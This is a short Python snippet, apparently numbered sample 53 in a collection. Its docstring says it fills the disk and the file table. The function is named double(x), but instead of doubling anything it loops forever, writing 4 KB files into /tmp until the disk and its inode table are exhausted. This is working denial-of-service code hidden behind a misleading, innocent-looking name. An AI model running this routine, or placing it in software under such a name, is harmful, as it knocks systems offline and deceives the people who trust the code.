"""53: fills the disk and its table of files."""


def double(x):
    number = 0
    while True:
        with open(f"/tmp/{number}", "w") as file:
            file.write("x" * 4096)
        number += 1
